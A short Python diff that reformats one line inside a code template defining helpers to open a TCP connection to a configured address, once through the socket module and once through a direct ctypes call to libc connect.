@@ -26,7 +26,8 @@ HEAD = """
         return socket.create_connection((ADDRESS, PORT))
 
     def connect_by_the_system():
-        place = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT) + socket.inet_aton(ADDRESS) + bytes(8)
+        place = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT)
+        place += socket.inet_aton(ADDRESS) + bytes(8)
         opened = socket.socket()
         assert ctypes.CDLL(None).connect(opened.fileno(), place, len(place)) == 0
         return opened
